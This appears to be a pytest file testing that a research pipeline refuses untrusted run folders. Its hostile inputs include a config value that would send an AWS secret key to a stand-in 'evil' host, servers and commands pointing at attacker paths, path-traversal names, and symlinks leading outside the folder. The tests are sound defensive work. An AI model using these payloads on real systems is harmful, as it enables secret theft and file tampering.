"""A run's folder that comes from a stranger, or that was left half written, or that two processes write."""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from contextlib import nullcontext
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from omegaconf import DictConfig, OmegaConf
from run_folders import judged_run
from seeded_runs import BASE, run

from valign.config import checks, run_identity
from valign.config.arguments import plain
from valign.config.schema import ScoringSettings
from valign.core.errors import ValignError
from valign.core.files import append_text, read_json, read_jsonl, write_json
from valign.core.records import Message, Passage, Question
from valign.documents.read import parse_document
from valign.evaluation.answering import conversation
from valign.evaluation.judging.labels import LABELS
from valign.evaluation.settings import ServerSettings
from valign.pipeline import evaluation_run
from valign.pipeline.artifacts import Artifacts, pinned_by
from valign.pipeline.evaluation_run import evaluation_name
from valign.pipeline.finished_run import arms_of_run, context_of_run, require_known_servers
from valign.pipeline.run import run as run_pipeline
from valign.reporting.study import compare_runs
from valign.reporting.write import write_report
from valign.review_desk.decision_file import DecisionFile
from valign.runs.layout import ARTIFACTS, CONFIG, PAGE, RUN, run_folders, run_is_current
from valign.serving.settings import VllmSettings

SECRET = "s3cr3t-of-this-machine"


def noted(config: DictConfig, folder: Path, **changed: Any) -> Path:
    """Write a run's config, with other values by dotted key."""
    plain = OmegaConf.create(OmegaConf.to_container(config, resolve=True))
    for key, value in changed.items():
        OmegaConf.update(plain, key, value, force_add=True)
    folder.mkdir(parents=True, exist_ok=True)
    (folder / CONFIG).write_text(OmegaConf.to_yaml(plain))
    return folder


def test_code_and_lookups_of_a_run_are_refused(
    tmp_path: Path, compose_config: Callable[..., DictConfig], monkeypatch: pytest.MonkeyPatch
) -> None:
    config = compose_config("base_model=tiny")
    assert context_of_run(noted(config, tmp_path / "own")).settings.base_model.model == "tiny"
    folder = noted(config, tmp_path / "code", **{"base_model.trust_remote_code": True})
    with pytest.raises(
        ValignError, match=r"has base_model\.trust_remote_code=true, which runs code .*, add trust=true"
    ):
        context_of_run(folder)
    assert context_of_run(folder, is_trusted=True).settings.base_model.trust_remote_code
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)
    for value in ("http://evil/${oc.env:AWS_SECRET_ACCESS_KEY}", "${seed}", "${valign.stem:a}"):
        folder = noted(config, tmp_path / "env")
        text = (folder / CONFIG).read_text().replace("model: tiny", f"model: '{value}'")
        (folder / CONFIG).write_text(text)
        for is_trusted in (False, True):
            with pytest.raises(ValignError, match=r"config\.yaml has \S*\$\{\S+, which no run writes") as refused:
                context_of_run(folder, is_trusted)
            assert SECRET not in str(refused.value)
    for text in ("- a\n", "a: [\n", "text", "seed: ${"):
        (folder / CONFIG).write_text(text)
        with pytest.raises(ValignError, match=r"is not the config of a run|which no run writes"):
            context_of_run(folder)
    (folder / CONFIG).unlink()
    with pytest.raises(ValignError, match=r"config\.yaml is missing; give the folder of a finished run"):
        context_of_run(folder)


def test_servers_and_keys_come_from_the_command_line(
    tmp_path: Path, compose_config: Callable[..., DictConfig], monkeypatch: pytest.MonkeyPatch
) -> None:
    config = compose_config("base_model=tiny")
    judge = plain(config.teacher) | {
        "kind": "api", "model": "m", "base_urls": ["http://evil"], "api_key_env": "AWS_SECRET_ACCESS_KEY",
    }  # fmt: skip
    server = {"evaluation.server.base_urls": ["http://evil"], "evaluation.server.api_key_env": "AWS_SECRET_ACCESS_KEY"}
    folder = noted(config, tmp_path / "served", **server)
    write_json(folder / RUN, {"arms": [], "artifacts": {}, "state": "x"})
    said = r"has evaluation\.server\.base_urls=\[http://evil\], which is sent the questions and the key in AWS_SECRET"
    monkeypatch.setattr(evaluation_run, "connect", lambda *_: pytest.fail("went on"))
    with pytest.raises(ValignError, match=said):
        evaluation_run.evaluate(folder, None, None, ScoringSettings(vllm=VllmSettings(), server=ServerSettings()))
    require_known_servers(context_of_run(folder), folder, is_engine_chosen=True)
    judged = noted(config, tmp_path / "judged", **{"evaluation.judge_model": judge})
    with pytest.raises(ValignError, match=r"judge_model\.base_urls=\[http://evil\], which is sent the answers"):
        require_known_servers(context_of_run(judged), judged, is_engine_chosen=True)
    judged = noted(config, tmp_path / "judged", **{"evaluation.policy_judge": judge})
    with pytest.raises(ValignError, match=r"policy_judge\.base_urls=\[http://evil\], which is sent the answers"):
        require_known_servers(context_of_run(judged), judged, is_engine_chosen=True)
    by_file = {"evaluation.judge_model": judge | {"kind": "batch", "requests": "/etc"}}
    with pytest.raises(ValignError, match=r"judge_model\.requests=/etc, which is written to"):
        require_known_servers(context_of_run(noted(config, judged, **by_file)), judged, is_engine_chosen=False)
    started = {"evaluation.judge_model": judge | {"kind": "vllm", "vllm": {"command": "/tmp/evil"}}}
    with pytest.raises(ValignError, match=r"judge_model\.vllm\.command=/tmp/evil, which is a program that"):
        require_known_servers(context_of_run(noted(config, judged, **started)), judged, is_engine_chosen=True)
    engine = {"evaluation.engine": "vllm", "evaluation.vllm.command": "/tmp/evil"}
    strange = noted(config, tmp_path / "engine", **engine)
    with pytest.raises(ValignError, match=r"evaluation\.vllm\.command=/tmp/evil, which is a program that"):
        require_known_servers(context_of_run(strange), strange, is_engine_chosen=False)


def test_a_run_is_not_trained_again_by_what_only_reads_it(tmp_path: Path) -> None:
    """Its store may hold checkpoints, which are pickled."""
    for name in ("../../etc", "*", 5, "0" * 15):
        with pytest.raises(ValignError, match=r"which names no folder"):
            pinned_by({"artifacts": {"sft": name}})
    artifacts = Artifacts(tmp_path, pinned_by({"artifacts": {}}))
    for name in ("data", "sft", "dpo"):
        with pytest.raises(ValignError, match=rf"the run notes no {name} among its artifacts"):
            artifacts.find_pinned(name)
    assert artifacts.find_pinned("replay") is None
    assert Artifacts(tmp_path).find_pinned("data") is None
    run_json = {"artifacts": {}, "state": "x"}
    arm = {"name": "a", "stages": [], "retrieval": False}
    for arms in ([{**arm, "name": "../up"}], [{"name": "a"}], 3, [{**arm, "stages": ["rm"]}]):
        write_json(tmp_path / RUN, {**run_json, "arms": arms})
        with pytest.raises(ValignError, match=r"run\.json is not that of a run"):
            arms_of_run(tmp_path)


def test_complete_means_complete(tmp_path: Path) -> None:
    folder = run(tmp_path / "a", 0, {"base": BASE})
    details = read_json(folder / RUN)
    for name in (PAGE, ARTIFACTS):
        write_json(folder / RUN, {**details, "state": "s"})
        assert not run_is_current(folder, "s")
        (folder / name).write_text("{}")
    assert run_is_current(folder, "s")
    for text in ("", '{"state": "s', "[]"):
        (folder / RUN).write_text(text)
        assert not run_is_current(folder, "s")
    (folder / RUN).unlink()
    assert compare_runs([folder], [details]).arms[0].arm == "base"


def test_one_process_at_a_time_writes_a_run(
    tmp_path: Path, compose_config: Callable[..., DictConfig], monkeypatch: pytest.MonkeyPatch
) -> None:
    from valign.pipeline import run as module
    from valign.pipeline.context import Context

    said: list[str] = []
    monkeypatch.setattr(module.log, "info", lambda text, *a: said.append(text % a))
    monkeypatch.setattr(module, "_show", lambda folder: None)

    def make(context: Context, folder: Path, state: str) -> None:
        from filelock import FileLock, Timeout

        with pytest.raises(Timeout):
            FileLock(folder / ".lock", is_singleton=False).acquire(timeout=0)
        said.append("made")

    monkeypatch.setattr(module, "_make", make)
    run_pipeline(Context.of(compose_config("base_model=tiny", f"runs={tmp_path}", f"run_dir={tmp_path / 'r'}")))
    assert said == ["made"]
    assert os.listdir(tmp_path / "r") in ([".lock"], [])


def test_names_do_not_leave_their_folder(tmp_path: Path, compose_config: Callable[..., DictConfig]) -> None:
    for name in ("..", ".", "...", "a/b", " "):
        with pytest.raises(ValignError, match=r"must be a word without '/'"):
            parse_document(b"Nobody may.", name)
    for file in ("...md", "....txt", "..md"):
        (tmp_path / file).write_text("Nobody may.")
        composed = compose_config("document=file", f"document.path='{tmp_path / file}'")
        assert composed.document.name.strip("."), file
        assert Path(composed.run_dir).resolve().is_relative_to(Path(composed.runs).resolve())
        assert len(Path(composed.run_dir).parts) == len(Path(composed.runs).parts) + 2
    for key in ("experiment_name", "run_name"):
        with pytest.raises(ValignError, match=rf"^{key}=\.\. leads out of the folder of runs"):
            checks.check_config(compose_config("base_model=tiny", f"{key}=.."))
    assert run_identity.by_prompts("large", 1, 2) == 2


def test_evaluations_of_files_of_one_name_have_two_folders(tmp_path: Path) -> None:
    place, first, second = tmp_path / "evaluations", tmp_path / "a" / "q.jsonl", tmp_path / "b" / "q.jsonl"
    assert evaluation_name(place, None) == "own"
    assert evaluation_name(place, first) == "q"
    (place / "q").mkdir(parents=True)
    assert evaluation_name(place, second) == "q"  # of an earlier version, which noted no path
    (place / "q" / "questions.txt").write_text(str(first))
    assert evaluation_name(place, first) == "q"
    assert evaluation_name(place, second).startswith("q-")
    assert evaluation_name(place, tmp_path / "own.jsonl").startswith("own-")
    for name in ("...jsonl", "....jsonl"):
        found = evaluation_name(place, tmp_path / name)
        assert found.startswith("questions-"), found


def test_runs_behind_links_are_runs(tmp_path: Path) -> None:
    judged_run(tmp_path / "disk" / "sft", {"base": "A."}, None)
    (tmp_path / "runs").mkdir()
    (tmp_path / "runs" / "udhr").symlink_to(tmp_path / "disk")
    (tmp_path / "disk" / "loop").symlink_to(tmp_path / "runs")
    assert run_folders(tmp_path / "runs") == [tmp_path / "runs" / "udhr" / "sft"]


def test_rows_that_are_none_are_one_line_and_braces_stay_text(tmp_path: Path) -> None:
    row = {"question_id": "1", "clause": "d/1", "question": "Why?", "reference": "So.", "facts": [["x", None]]}
    (tmp_path / "q.jsonl").write_text(json.dumps(row))
    with pytest.raises(ValignError, match=r"line 1: 'facts' must be a list of lists of accepted wordings"):
        read_jsonl(tmp_path / "q.jsonl", Question)
    (tmp_path / "q.jsonl").write_text("[" * 100_000)
    with pytest.raises(ValignError, match=r"line 1: lists or objects are nested too deep"):
        read_jsonl(tmp_path / "q.jsonl", Question)
    shown: tuple[Message, ...] = conversation("Why?", [Passage("d/1", ("D",), "Fill {question} and {rules}.", 0, 9)])
    assert shown[-1]["content"].count("Why?") == 1
    assert "Fill {question} and {rules}." in shown[-1]["content"]


def test_links_in_a_run_write_nothing_outside_of_it(
    tmp_path: Path, compose_config: Callable[..., DictConfig], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A stranger's run may hold links where a command writes: pages, tables, labels, another evaluation."""
    (tmp_path / "mine").mkdir()
    mine = tmp_path / "mine" / "notes.txt"
    for name in (PAGE, "table.md", "card.md"):
        folder = run(tmp_path / name / "run", 0, {"base": BASE, "sft": {"q1": 1.0, "q2": 0.0}})
        mine.write_text("precious")
        (folder / name).symlink_to(mine)
        with pytest.raises(ValignError, match=r"is a link to .*notes\.txt, outside of its folder, and is not written"):
            write_report(folder, folder / PAGE)
    (folder / LABELS).symlink_to(mine)
    with pytest.raises(ValignError, match=r"is a link to .*notes\.txt, outside of its folder"):
        append_text(folder / LABELS, "{}\n")
    monkeypatch.setattr(evaluation_run, "connect", lambda *_: nullcontext(SimpleNamespace(is_first=True)))
    noted(compose_config("base_model=tiny"), folder)
    write_json(folder / RUN, {"arms": [], "artifacts": {}, "state": "x"})
    scoring = ScoringSettings(vllm=VllmSettings(), server=ServerSettings())
    for place in ("evaluations", "evaluations/own", "evaluations/own/arms"):
        (folder / place).parent.mkdir(parents=True, exist_ok=True)
        (folder / place).symlink_to(mine.parent)
        with pytest.raises(
            ValignError, match=rf"{place} leads out of .*, to .*mine; delete that link, or give another"
        ):
            evaluation_run.evaluate(folder, None, None, scoring)
        (folder / place).unlink()
    assert os.listdir(mine.parent) == ["notes.txt"] and mine.read_text() == "precious"


def test_a_file_that_holds_no_decisions_is_not_cut(tmp_path: Path) -> None:
    """What stands behind the last line end is cut off before a decision is added, where a power cut left it."""
    file = tmp_path / "notes.txt"
    for text in ("my notes", "a\nb", "\x00x"):
        file.write_text(text)
        with pytest.raises(ValignError, match=r"notes\.txt.*line.*"):
            DecisionFile(file, "ann")
        assert file.read_text() == text
    file.write_bytes(b'{"action": "ke\0\0\0')
    decisions = DecisionFile(file, "ann")
    decisions.add("keep", "k", "D_sft", "c")
    assert len(DecisionFile(file, "ann").decisions) == 1
